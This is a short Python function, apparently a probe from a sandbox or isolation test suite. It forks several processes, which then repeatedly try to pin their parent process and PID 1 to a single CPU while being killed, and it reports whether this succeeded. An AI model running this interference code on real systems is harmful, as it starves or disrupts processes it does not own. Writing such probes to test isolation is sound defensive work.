# Pins its relatives to one processor, again and again while it is being killed.
def attack():
    import posix

    won = False
    target = posix.getppid()
    for _ in range(3):
        posix.fork()
    own = posix.sched_getaffinity(0)
    for _ in range(20000):
        for victim in (target, 1):
            try:
                posix.sched_setaffinity(victim, {min(own)})
                won = True
            except OSError:
                pass
    return won and len(own) > 1
